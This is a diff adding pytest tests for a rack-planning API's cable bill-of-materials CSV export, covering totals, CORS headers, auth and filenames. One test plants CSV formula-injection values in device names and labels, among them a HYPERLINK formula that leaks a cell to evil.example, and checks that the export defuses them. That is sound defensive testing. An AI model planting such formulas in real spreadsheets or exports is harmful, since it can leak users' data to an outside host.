@@ -1,11 +1,19 @@
 """Optimizer, cable BOM and elevation routes, on SQLite and on real PostgreSQL."""
 
 import asyncio
+import csv
+import dataclasses
+import io
 import xml.etree.ElementTree as ET
 
+import falcon.testing
 import pytest
 
+from conftest import Api, assert_documented
+from homerack.api.app import create_app
 from homerack.domain import optimizer
+from homerack.domain.bom import CSV_COLUMNS
+from homerack.domain.schemas import BomReport
 
 NS = "{http://www.w3.org/2000/svg}"
 
@@ -151,6 +159,7 @@ async def test_invalid_optimize_requests(api, lab, body, field):
 async def test_unknown_rack_is_404_everywhere(api):
     assert (await api.post("/api/racks/999/optimize", json={})).status_code == 404
     assert (await api.get("/api/racks/999/bom")).status_code == 404
+    assert (await api.get("/api/racks/999/bom.csv")).status_code == 404
     assert (await api.get("/api/racks/999/elevation.svg")).status_code == 404
 
 
@@ -187,6 +196,70 @@ async def test_bom_by_hand(api, lab):
     assert "far (rack Annex)" in excluded and "leaves the rack" in excluded["far (rack Annex)"]
     assert "unplaced" in excluded["loose"]
     assert set(bom["stock_lengths_m"]) >= {"cat6", "dac", "fiber_os2", "power"}
+    assert_documented(BomReport, bom)
+
+
+def csv_rows(text: str) -> list[dict]:
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert tuple(header) == CSV_COLUMNS
+    return [dict(zip(header, r, strict=True)) for r in rows]
+
+
+async def test_bom_csv_has_the_json_lines_and_totals_and_runs_no_formula(api, lab):
+    rid = lab["rack"]["id"]
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    await api.patch(f"/api/racks/{rid}", json={"name": "Main Rack / Café"})
+    assert (await api.patch(f"/api/devices/{lab['sw']['id']}",
+                            json={"name": link})).status_code == 200
+    assert (await api.patch(f"/api/devices/{lab['srv']['id']}",
+                            json={"name": "@SUM(1)"})).status_code == 200
+    await api.patch(f"/api/connections/{lab['cable']['id']}", json={"label": "-2+3"})
+    await api.create("/api/connections", {"device_a_id": lab["srv"]["id"],
+                                          "device_b_id": lab["sw"]["id"],
+                                          "cable_type": "power", "label": "+A1"})
+    res = await api.get(f"/api/racks/{rid}/bom.csv", role="viewer")
+    assert res.status_code == 200, res.text
+    assert res.headers["content-type"] == "text/csv; charset=utf-8"
+    assert res.headers["content-disposition"] == (
+        'attachment; filename="main-rack-cafe-bom.csv"')
+    rows = csv_rows(res.text)
+    bom = (await api.get(f"/api/racks/{rid}/bom", role="viewer")).json
+    lines = [r for r in rows if r["row"] == "cable"]
+    assert [(int(r["connection_id"]), r["cable_type"], int(r["count"]),
+             float(r["stock_length_m"]), float(r["run_length_mm"])) for r in lines] == [
+        (ln["connection_id"], ln["cable_type"], ln["count"], ln["stock_length_m"],
+         ln["length_mm"]) for ln in bom["lines"]]
+    assert [(r["device_a"], r["device_b"], r["label"]) for r in lines] == [
+        ("'" + link, "'@SUM(1)", "'-2+3"), ("'@SUM(1)", "'" + link, "'+A1")]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows for cell in r.values())
+    subtotals = [(r["cable_type"], float(r["stock_length_m"]), int(r["count"]),
+                  float(r["length_m"])) for r in rows if r["row"] == "subtotal"]
+    assert subtotals == [(t["cable_type"], t["stock_length_m"], t["count"],
+                          t["total_length_m"]) for t in bom["totals"]]
+    assert subtotals == [("cat6", 1.5, 2, 3.0), ("power", 1.5, 1, 1.5)]
+    assert rows[-1]["row"] == "total" and (rows[-1]["count"], rows[-1]["length_m"]) == (
+        "3", "4.5")
+
+
+async def test_a_cross_origin_ui_can_read_the_csv_file_name(config, lab):
+    ui = "https://ui.example"
+    app = create_app(dataclasses.replace(config, cors_origins=(ui,)))
+    async with falcon.testing.ASGIConductor(app) as c:
+        res = await Api(c).get(f"/api/racks/{lab['rack']['id']}/bom.csv",
+                               headers={"Origin": ui})
+    assert res.status_code == 200
+    assert res.headers["access-control-allow-origin"] == ui
+    exposed = res.headers["access-control-expose-headers"].lower()
+    assert "content-disposition" in exposed
+
+
+async def test_bom_csv_needs_a_token_and_names_an_unnamed_rack(api, lab):
+    path = f"/api/racks/{lab['rack']['id']}/bom.csv"
+    assert (await api.get(path, role=None)).status_code == 401
+    await api.patch(f"/api/racks/{lab['rack']['id']}", json={"name": "机柜"})
+    res = await api.get(path, role="viewer")
+    assert res.headers["content-disposition"] == 'attachment; filename="rack-bom.csv"'
 
 
 def svg_root(text: str):
